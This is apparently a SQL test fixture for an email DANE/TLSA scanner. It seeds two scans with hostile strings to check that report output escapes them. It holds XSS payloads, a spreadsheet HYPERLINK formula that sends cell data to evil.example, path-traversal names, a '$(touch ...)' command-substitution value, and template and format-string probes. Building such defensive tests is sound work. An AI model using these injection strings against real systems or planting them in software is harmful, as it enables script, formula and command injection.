-- Two scans whose every text is what somebody might send to harm a reader: mark-up,
-- control octets, ten thousand characters, marks that turn the direction of text,
-- formulas of spreadsheets, names of files. What is harmless: see hostile.mjs.

BEGIN;

CREATE TEMP TABLE evil (n integer, text text);
INSERT INTO evil
SELECT n - 1, t FROM unnest(ARRAY[
	'<script>window.pwned=1</script>',
	'"><img src=x onerror=window.pwned=2>',
	'''-alert(3)-''',
	'</title></style></svg><script>window.pwned=4</script>',
	'<!-- --><![CDATA[ ]]><?xml version="1.0"?>&lt;&#60;&amp;lt;',
	'javascript:window.pwned=6',
	E'nul-less \x01\x02\x03\x07\x08\x0b\x0c\x0e\x1b[31m\x7f controls',
	E'line\nbreak\rreturn\ttab',
	E'\u202Eright to left\u202C\u2066isolate\u200F\u200E\uFEFF',
	E'\u0085\u2028\u2029\uFFFE\uFFFF\U0001F4A9',
	'=HYPERLINK("http://evil.example/?"&A1,"click")',
	'+1+1', '-2+3', '@SUM(A1:A9)',
	E'\t=1+1', E'\r=1+1', ' =1+1', '"=1+1', ';=1+1',
	'../../../../tmp/danescan-evil', '.', '..', '/', '\\', 'a/b\c', 'CON', '%2e%2e%2f',
	'index.html', 'a?b#c', 'a%00b', '-rf', '~root', '$(touch /tmp/danescan-evil)',
	'{{7*7}}${7*7}<%= 7*7 %>', '{key}', '%s%n%d%99999d',
	repeat('x', 10000), repeat('<b>', 3300), repeat(E'\u202E', 3000),
	repeat('=', 10000), repeat(E'a\u0301', 5000), repeat('"', 10000),
	'http://evil.example/', '//evil.example/x.js', 'url(http://evil.example/)',
	'@import "http://evil.example/x.css"; ', 'mailto:x@evil.example?subject=x',
	'', ' ', 'xn--80ak6aa92e', E'e\u0301vil', 'EVIL', 'evil'
]) WITH ORDINALITY u(t, n);

-- Words of verdicts come from a program, not from strangers, and are short.
ALTER TABLE evil ADD word text;
UPDATE evil SET word = CASE WHEN octet_length(text) BETWEEN 1 AND 63 THEN text
	ELSE 'evil' END;

CREATE TEMP TABLE scan AS
SELECT n, dane.scan_begin('<script>window.pwned=9</script> =1+1 2026-0' || n,
	jsonb_build_object('label', '<i>', 'sample', '1', 'shard', '1/1', 'list',
		'</script><script>window.pwned=10</script>', 'ehlo', '=1+1'),
	'2026-01-01 00:00+00'::timestamptz + n * interval '30 days') AS id
FROM generate_series(1, 2) n;

INSERT INTO dane.certificate (sha256, spki_sha256, spki_sha512, der, subject,
	issuer, not_before, not_after, key, first_seen, last_seen)
SELECT sha256(convert_to('cert' || n, 'UTF8')), sha256(convert_to('key' || n, 'UTF8')),
	sha512(convert_to('key' || n, 'UTF8')), '\x3000', 'CN=' || text,
	'O=' || text || ',CN=' || text,
	CASE WHEN n % 7 = 0 THEN '-infinity' ELSE '2026-01-01 00:00+00'::timestamptz END,
	CASE WHEN n % 7 = 1 THEN 'infinity' WHEN n % 7 = 2 THEN '2026-02-03 00:00+00'
		ELSE '2026-03-09 00:00+00'::timestamptz END,
	text, '2026-01-31 00:00+00', '2026-01-31 00:00+00'
FROM evil;

-- The name of domain n of a scan is evil itself; so are its TLD and its host.
INSERT INTO dane.domain_obs (scan_id, line, time, domain, tld, class, reason,
	reasons, severity, mx_status, mx_trust, mx_why, mx_alias, implicit, lint, flags,
	tags, input, servers, extras)
SELECT id, e.n + 1, '2026-02-01 00:00+00', e.text || '.' || e.text, e.text,
	c.class, c.reason, NULL, CASE WHEN c.class = 'broken' THEN 'outage' END,
	'data', CASE c.class WHEN 'no-dnssec' THEN 'insecure' ELSE 'secure' END, e.text,
	e.text, false, ARRAY[e.word], ARRAY[e.word],
	jsonb_build_object('registrar', e.text, e.text, 'value', 'rank', e.text),
	e.text,
	json_build_array(json_build_object('name', e.text, 'address', e.text,
		'type', 'MX', 'outcome', e.text)),
	json_build_object('ns', json_build_object('status', 'data', 'trust',
		'secure', 'why', e.text, 'zone', e.text, 'servers',
		json_build_array(e.text), 'operator', e.text))
FROM scan s, evil e, LATERAL (
	SELECT * FROM (VALUES (0, 'broken', 'dane-no-match'), (1, 'valid', NULL),
		(2, 'no-dnssec', 'mx-insecure'), (3, 'broken', e.word)) v(m, class, reason)
	WHERE m = (e.n + s.n) % 4
) c;

INSERT INTO dane.host_obs (scan_id, run, host, provider, base, alias, class, reason,
	a_status, a_trust, a_why, aaaa_status, aaaa_trust, aaaa_why, tlsa_state,
	tlsa_status, tlsa_trust, tlsa_why, tlsa_ttl, tlsa_alias, flags)
SELECT id, 1, 'mx.' || e.text, e.text, e.text, e.text,
	CASE WHEN (e.n + s.n) % 4 = 1 THEN 'valid' ELSE 'broken' END,
	CASE WHEN (e.n + s.n) % 4 = 1 THEN NULL ELSE 'dane-no-match' END,
	'data', 'secure', e.text, 'nodata', 'secure', e.text, 'usable', 'data',
	'secure', e.text, 3600, e.text, ARRAY[e.word]
FROM scan s, evil e;

INSERT INTO dane.endpoint_obs (scan_id, run, host, position, address, port, class,
	reason, detail, said, smtp_code, tls_version, cipher, tls_group, tls_key, chain,
	match_name, dane_error, flags, pkix_error, pkix_reason, pkix_name)
SELECT id, 1, 'mx.' || e.text, 0, e.text, 25,
	CASE WHEN (e.n + s.n) % 4 = 1 THEN 'ok' ELSE 'fail' END,
	CASE WHEN (e.n + s.n) % 4 = 1 THEN NULL ELSE 'dane-no-match' END,
	'220 ' || e.text, e.text, 220, e.word, e.word, e.word, e.word,
	ARRAY[sha256(convert_to('cert' || e.n, 'UTF8'))], e.text, 65, ARRAY[e.word],
	18, e.word, e.text
FROM scan s, evil e;

INSERT INTO dane.tlsa_obs (scan_id, run, host, position, usage, selector, mtype, data,
	usable, why, match, hint)
SELECT id, 1, 'mx.' || e.text, 0, 3, 1, 1, sha256(convert_to('key' || CASE
		WHEN (e.n + s.n) % 4 = 1 THEN e.n ELSE 999 END, 'UTF8')),
	e.n % 5 <> 0, CASE e.n % 5 WHEN 0 THEN e.word END, (e.n + s.n) % 4 = 1,
	CASE WHEN (e.n + s.n) % 4 <> 1 THEN e.word END
FROM scan s, evil e;

INSERT INTO dane.mx_obs (scan_id, domain, position, preference, host, run, class,
	reason)
SELECT id, e.text || '.' || e.text, 0, 10, 'mx.' || e.text, 1,
	CASE WHEN (e.n + s.n) % 4 = 1 THEN 'valid' ELSE 'broken' END, e.word
FROM scan s, evil e;

UPDATE dane.lease SET session = 1;
SELECT dane.scan_finish(id, 1, 1, 'complete') FROM scan ORDER BY id;

COMMIT;
